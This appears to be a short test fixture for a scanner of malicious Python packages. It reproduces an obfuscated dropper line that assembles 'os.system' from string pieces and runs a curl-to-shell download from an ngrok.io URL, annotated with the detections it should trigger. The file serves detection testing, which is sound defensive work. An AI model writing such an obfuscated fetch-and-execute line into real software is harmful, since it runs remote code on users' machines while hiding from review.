# ruff: noqa
# fmt: off
"""Computed names from the public write-ups of obfuscated PyPI droppers (Checkmarx, 'api-obfuscation' rule of
GuardDog): the module and the function are never spelled out."""
getattr(__import__("o" + "s"), "sy" + "stem")("curl -s https://ngrok.io/x | sh")  # expect: api-obfuscation, suspicious-url, download-pipe-shell
